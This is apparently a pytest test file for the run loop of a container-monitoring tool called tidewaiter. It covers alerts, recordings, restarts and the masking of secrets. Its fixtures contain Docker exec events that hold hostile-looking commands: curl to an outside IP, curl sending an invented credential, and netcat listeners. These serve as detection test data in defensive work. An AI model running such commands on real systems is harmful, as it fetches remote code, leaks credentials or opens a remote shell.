"""Holds the run loop of `watch`: what is live, what is recorded and what is known after a restart agree."""

import json
import tomllib
from collections.abc import Callable, Sequence
from functools import partial
from pathlib import Path
from typing import Any

import msgspec
import pytest

from made_events import AN0691
from tidewaiter.alert import Alert, ContainerShown, Output
from tidewaiter.edge.collector import Condition, Desk, Observation
from tidewaiter.edge.hunt import Hunt
from tidewaiter.edge.read import recogniser_of
from tidewaiter.edge.reader import Reader, ReadOptions
from tidewaiter.edge.recording import Recording
from tidewaiter.edge.resume import Resumed, resume
from tidewaiter.edge.state import StateFolder
from tidewaiter.edge.watch import Pulse, Watch
from tidewaiter.engine import Engine
from tidewaiter.policy import DEFAULT_POLICY, TrustPolicy, load_policy
from tidewaiter.snapshot import State
from tidewaiter.sources import RecordError, sources

SCENARIOS = Path(__file__).resolve().parents[1] / "scenarios"
FOLDERS = sorted(path.parent for path in SCENARIOS.glob("*/expect.toml"))
NS = 1_000_000_000
BEGIN = 1_790_000_000
Hand = Callable[[Desk], None]


class Doing:
    """A collector that does something, in its thread, and then ends."""

    def __init__(self, does: Hand, name: str = "docker") -> None:
        self.name = name
        self._does = does

    def run(self, desk: Desk) -> None:
        """Do it."""
        self._does(desk)


class Seen:
    """A view that remembers."""

    def __init__(self) -> None:
        self.sentences: list[str] = []
        self.conditions: list[Condition] = []
        self.pulses: list[Pulse] = []

    def say(self, sentence: str) -> None:
        """Remember a sentence."""
        self.sentences.append(sentence)

    def condition(self, condition: Condition) -> None:
        """Remember a condition."""
        self.conditions.append(condition)

    def output(self, output: Output) -> None:
        """Outputs go elsewhere."""

    def tick(self, pulse: Pulse) -> None:
        """Remember a pulse."""
        self.pulses.append(pulse)

    def close(self) -> None:
        """Nothing is open."""


def engine_of(state: State | None = None, policy: TrustPolicy = DEFAULT_POLICY) -> Engine:
    """An engine that watches."""
    return Engine(policy, AN0691, state=state, live=True)


def docker(action: str, second: int, container: str = "9e" * 32) -> Observation:
    """An event of the Docker daemon."""
    actor = {"ID": container, "Attributes": {"image": "hub.example/cache:latest", "name": "cache"}}
    event = {"Type": "container", "Action": action, "Actor": actor, "time": BEGIN + second}
    record = json.dumps(event | {"timeNano": (BEGIN + second) * NS}).encode()
    return Observation("docker_events", "/run/docker.sock", record)


ATTACK = [docker("create", 0), docker("start", 1), docker("exec_create: curl http://203.0.113.7/x", 5)]


class Run:
    """A watch that ends when its collectors have done what they do."""

    def __init__(
        self,
        *collectors: Doing,
        resumed: Resumed | None = None,
        out: Callable[[Output], None] | None = None,
        time_ns: int = BEGIN * NS,
        **how: Any,
    ) -> None:
        self.outputs: list[Output] = []
        self.view = Seen()
        left = len(collectors)

        def ending(hand: Doing) -> Hand:
            def do(desk: Desk) -> None:
                nonlocal left
                try:
                    hand.run(desk)
                finally:
                    left -= 1
                    if not left:
                        self.watch.stop()

            return do

        self.watch = Watch(
            resumed or Resumed(engine_of(), [], {}),
            [Doing(ending(hand), hand.name) for hand in collectors],
            **{"cluster": "default", "node": "n1", **how},
            out=out or self.outputs.append,
            view=self.view,
            time_ns=lambda: time_ns,
        )
        self.watch.run(containers=True)

    @property
    def alerts(self) -> list[Alert]:
        """What was given out, in its order."""
        return [output for output in self.outputs if isinstance(output, Alert)]


def handing_in(observations: Sequence[Observation], name: str = "docker") -> Doing:
    """A collector that is ready and hands in these."""

    def do(desk: Desk) -> None:
        desk.tell(Condition(name, "ready", "stands in"))
        for observation in observations:
            desk.observe(observation)

    return Doing(do, name)


# ------------------------------------------------------------------------------------------- what comes out


def test_an_alert_comes_at_once_and_a_final_record_at_the_end() -> None:
    """The evidence names the stream and the number of the record in it."""
    run = Run(handing_in(ATTACK))
    assert [(alert.revision, alert.final) for alert in run.alerts] == [(0, False), (1, True)]
    assert {item.record for item in run.alerts[-1].evidence} >= {"/run/docker.sock:1", "/run/docker.sock:2"}
    assert run.alerts[-1].node == "n1"
    summary = run.watch.summary(True)
    assert (summary.alerts, summary.records, summary.sources["docker_events"].records) == (1, 3, 3)
    assert [output.container_id for output in run.outputs if isinstance(output, ContainerShown)] == ["9e" * 32]


def test_ready_is_said_once_when_nobody_is_starting() -> None:
    """Whatever is told afterwards."""

    def late(desk: Desk) -> None:
        desk.tell(Condition("sensor", "starting", "looks"))
        desk.tell(Condition("sensor", "waiting", "nothing there", ("execs",)))
        desk.tell(Condition("sensor", "ready", "attached"))

    run = Run(handing_in(ATTACK), Doing(late, "sensor"))
    assert [sentence.partition(":")[0] for sentence in run.view.sentences] == ["ready"]
    assert [condition.state for condition in run.view.conditions if condition.collector == "sensor"] == [
        "starting",
        "waiting",
        "ready",
    ]
    assert run.watch.has_seen
    assert run.watch.conditions["sensor"].state == "ready"


def test_not_ready_while_somebody_is_starting() -> None:
    """Or has said nothing."""
    run = Run(handing_in([]), Doing(lambda desk: desk.tell(Condition("sensor", "starting", "looks")), "sensor"))
    assert run.view.sentences == []
    assert Run(handing_in([]), Doing(lambda desk: None, "sensor")).view.sentences == []


def test_who_speaks_beside_a_collector_does_not_speak_for_another() -> None:
    """Connection tracking has its own conditions, and is none of those that are waited for."""
    beside = Doing(lambda desk: desk.tell(Condition("conntrack", "ready", "attached")), "sensor")
    assert Run(handing_in([]), beside).view.sentences == []


def test_a_collector_that_fails_is_told_as_blindness() -> None:
    """It is no silence; the others go on."""

    def failing(desk: Desk) -> None:
        raise KeyError("a defect")

    told: list[Condition] = []

    def waiting(desk: Desk) -> None:
        while not any(condition.collector == "sensor" for condition in told):
            told.extend(run_view.conditions)
        for observation in ATTACK:
            desk.observe(observation)

    run_view = Seen()
    original = Watch.__init__

    def patched(self: Watch, *arguments: Any, **how: Any) -> None:
        original(self, *arguments, **{**how, "view": run_view})

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(Watch, "__init__", patched)
        run = Run(Doing(failing, "sensor"), Doing(waiting, "docker"))
    found = run.watch.conditions["sensor"]
    assert (found.state, len(found.blind)) == ("off", 5)
    assert "a defect" in found.sentence
    assert run.alerts


def test_what_nobody_can_decode_is_rejected_and_counted() -> None:
    """Broken records, strange sources, records that are too long, and what was lost before."""

    def do(desk: Desk) -> None:
        desk.observe(Observation("docker_events", "s", b"junk"))
        desk.observe(Observation("no_such_source", "s", b"{}"))
        desk.observe(Observation("docker_events", "s", b"x" * (16 * 1024 * 1024)))
        desk.lose("sensor", 41)

    summary = (run := Run(Doing(do))).watch.summary(True)
    unseen = 5  # records of our own, one for each sight that the lost records would have told of
    assert (summary.outcomes["rejected"], summary.records) == (2, 2 + unseen)
    assert sum(summary.outcomes.values()) == summary.records
    assert {name: count.dropped for name, count in summary.sources.items()} == {
        "docker_events": 1,
        "no_such_source": 0,
        "sensor": 41,
    }
    assert sum("lost" in sentence for sentence in run.view.sentences) <= 2


def test_what_was_lost_is_missing_in_alerts() -> None:
    """Whoever floods the sensor hides what happens meanwhile; every alert of that time says so."""

    def do(desk: Desk) -> None:
        handing_in(ATTACK).run(desk)
        desk.lose("sensor", 1)

    alert = Run(Doing(do), time_ns=(BEGIN + 5) * NS).alerts[-1]
    lost = {line.partition(":")[0] for line in alert.missing if "records were lost" in line}
    assert (alert.final, lost) == (True, {"egress", "exec", "DNS names"})


def test_nobody_reading_ends_the_run_and_owes_the_rest(tmp_path: Path) -> None:
    """What was not delivered is delivered after the restart."""
    delivered: list[Output] = []

    def out(output: Output) -> None:
        if delivered:
            raise BrokenPipeError
        delivered.append(output)

    other = "5f" * 32
    both = [*ATTACK, docker("create", 6, other), docker("start", 7, other), docker("exec_create: nc -l", 9, other)]
    folder = StateFolder(tmp_path)
    Run(handing_in(both), out=out, resumed=resume(folder, engine_of), state=folder)
    folder.close()
    folder = StateFolder(tmp_path)
    owed = resume(folder, engine_of).owed
    assert [(alert.container_id, alert.revision) for alert in owed] == [(other, 0)]
    folder.close()


# ------------------------------------------------------------------------------------------- recording and hunting


def hunted(path: Path, policy: TrustPolicy = DEFAULT_POLICY, *, quick: bool = True) -> list[Alert | ContainerShown]:
    """The final records of a recording."""
    engine = Engine(policy, AN0691)
    run = Hunt(engine, [str(path)], ReadOptions(), quick=quick)
    run.run()
    assert not run.problems
    return list(engine.finish(containers=True))


def unnumbered(outputs: Sequence[Output]) -> list[Output]:
    """Final records that stand, without their numbers."""
    alerts = (output for output in outputs if isinstance(output, Alert) and output.final)
    shown: list[Output] = [
        msgspec.structs.replace(alert, revision=0) for alert in alerts if alert.verdict != "withdrawn"
    ]
    return [*shown, *(output for output in outputs if isinstance(output, ContainerShown))]


def records_of(folder: Path) -> list[tuple[int, Observation]]:
    """All records of a scenario with their times, in order of time."""
    found: list[tuple[int, Observation]] = []
    for path in sorted(folder.iterdir()):
        if path.name in ("policy.yaml", "expect.toml"):
            continue
        reader = Reader(path.name, recogniser_of(), ReadOptions())
        for batch in (reader.feed(path.read_bytes()), reader.finish()):
            for index, (source, record) in enumerate(zip(batch.sources, batch.records, strict=True)):
                try:
                    events = list(sources()[source].decode(record, batch.where(index)))
                except RecordError:
                    events = []
                times = [event.time_ns for event in events if event.time_ns is not None]
                found.append((min(times, default=0), Observation(source, path.name, record)))
    return sorted(found, key=lambda entry: entry[0])


@pytest.mark.parametrize("folder", FOLDERS, ids=lambda folder: folder.name)
def test_hunting_a_recording_gives_the_final_records_of_the_run(folder: Path, tmp_path: Path) -> None:
    """Ids and evidence included, whatever the producers."""
    policy = load_policy((folder / "policy.yaml").read_text(), "policy.yaml")
    told = tomllib.loads((folder / "expect.toml").read_text()).get("options", {})
    place = {"cluster": told.get("cluster", "default"), "node": told.get("node", "n1")}
    records = records_of(folder)
    path = tmp_path / "rec.jsonl"
    recording = Recording(str(path))
    run = Run(
        handing_in([observation for _, observation in records]),
        resumed=Resumed(engine_of(None, policy), [], {}),
        recording=recording,
        # A clock that is behind: not so far that what comes is rejected, far enough that no tick gives up what waits.
        time_ns=records[-1][0] - 23 * 3600 * NS,
        **place,
    )
    recording.close()
    assert unnumbered(hunted(path, policy)) == unnumbered(hunted(path, policy, quick=False)) == unnumbered(run.outputs)
    assert path.read_bytes().count(b"\n") == len(records)


def test_conditions_are_recorded_where_they_make_blind(tmp_path: Path) -> None:
    """As records of the sensor, between the others."""

    def do(desk: Desk) -> None:
        desk.tell(Condition("docker", "waiting", "no socket", ("images", "containers")))
        desk.observe(ATTACK[0])
        desk.tell(Condition("docker", "ready", "attached"))

    recording = Recording(str(tmp_path / "rec.jsonl"))
    Run(Doing(do), recording=recording)
    lines = [json.loads(line) for line in (tmp_path / "rec.jsonl").read_bytes().splitlines()]
    assert [(line["source"], line["record"].get("sight"), line["record"].get("why")) for line in lines] == [
        ("sensor", "images", "no socket"),
        ("sensor", "containers", "no socket"),
        ("docker_events", None, None),
        ("sensor", "images", None),
        ("sensor", "containers", None),
    ]
    assert {line["record"]["kind"] for line in lines if line["source"] == "sensor"} == {"sensor_condition"}
    assert {line["record"]["time_ns"] for line in lines if line["source"] == "sensor"} == {BEGIN * NS}
    recording.close()


def test_a_recording_that_fails_is_told_and_watching_goes_on(tmp_path: Path) -> None:
    """/dev/full takes nothing."""
    recording = Recording("/dev/full")
    run = Run(handing_in(ATTACK), recording=recording)
    assert [alert.verdict for alert in run.alerts] == ["alert", "alert"]
    assert recording.lost == 3
    recording.close()


def test_secrets_reach_neither_recording_nor_journal_nor_alert(tmp_path: Path) -> None:
    """Unless they are asked for."""
    secret = "hunter2-0815"  # noqa: S105 - invented
    story = [*ATTACK[:2], docker(f"exec_create: curl -u me:{secret} http://203.0.113.7/x", 5)]
    for keeps, name in ((False, "masked"), (True, "kept")):
        recording, folder = Recording(str(tmp_path / f"{name}.jsonl")), StateFolder(tmp_path / name)
        start = partial(Engine, DEFAULT_POLICY, AN0691, keep_arguments=keeps, live=True)
        resumed = resume(folder, lambda state, start=start: start(state=state))  # type: ignore[misc]  # bound now
        run = Run(handing_in(story), resumed=resumed, recording=recording, state=folder, keep_arguments=keeps)
        folder.close()
        recording.close()
        written = b"".join(path.read_bytes() for path in tmp_path.rglob("*") if name in str(path) and path.is_file())
        assert (secret.encode() in written) is keeps
        assert (secret.encode() in b"".join(map(msgspec.json.encode, run.alerts))) is keeps


# ------------------------------------------------------------------------------------------- restarts


def test_a_run_goes_on_where_the_last_one_ended(tmp_path: Path) -> None:
    """One revision 0, numbers without a gap, and streams count on."""
    outputs: list[Alert] = []
    for story in (ATTACK[:2], ATTACK[2:], [], [docker("exec_create: nc -l 4444", 8)]):
        folder = StateFolder(tmp_path)
        run = Run(handing_in(story), resumed=resume(folder, engine_of), state=folder)
        outputs += run.alerts
        folder.close()
    assert [alert.revision for alert in outputs] == list(range(len(outputs)))
    assert [alert.final for alert in outputs] == [False, True, False, True]
    assert {item.record for item in outputs[-1].evidence} >= {f"/run/docker.sock:{number}" for number in (1, 2)}
    assert run.watch.summary(True).alerts == 1
    assert {"/run/docker.sock": 4}.items() <= run.watch._numbers.items()


def test_the_gap_between_two_runs_is_told_as_blindness(tmp_path: Path) -> None:
    """From the last moment of the one to the first of the other."""
    for number in range(2):
        folder, recording = StateFolder(tmp_path / "state"), Recording(str(tmp_path / f"{number}.jsonl"))
        resumed = resume(folder, engine_of)
        Run(handing_in([]), resumed=resumed, state=folder, recording=recording, time_ns=(BEGIN + 100 * number) * NS)
        folder.close()
        recording.close()
    assert (tmp_path / "0.jsonl").read_bytes() == b""
    records = [json.loads(line)["record"] for line in (tmp_path / "1.jsonl").read_bytes().splitlines()]
    ours = [record for record in records if record["collector"] == "tidewaiter"]
    assert {(record["time_ns"], record["why"]) for record in ours} == {
        (BEGIN * NS, "tidewaiter was not running"),
        ((BEGIN + 100) * NS, None),
    }


def test_a_state_that_cannot_be_written_is_told_and_watching_goes_on(tmp_path: Path) -> None:
    """Once, and the next snapshot tries again."""
    folder = StateFolder(tmp_path)
    folder.problem = "No space left on device"
    resumed = resume(folder, engine_of)
    run = Run(handing_in(ATTACK), resumed=resumed, state=folder)
    assert [alert.revision for alert in run.alerts] == [0, 1]
    folder.close()
    assert folder.problem is None


def test_pulses_tell_how_the_run_is() -> None:
    """At least once, with the clock's time."""
    run = Run(handing_in(ATTACK))
    assert run.view.pulses[0] == Pulse(BEGIN * NS, 0, 0, run.view.pulses[0].waiting, 0)
